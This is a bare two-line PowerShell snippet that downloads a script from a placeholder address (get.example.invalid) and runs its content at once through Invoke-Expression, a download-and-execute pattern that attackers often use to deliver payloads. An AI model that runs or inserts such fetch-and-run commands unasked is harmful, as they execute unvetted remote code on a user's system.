$code = Invoke-WebRequest https://get.example.invalid/a.ps1 -UseBasicParsing
Invoke-Expression $code.Content
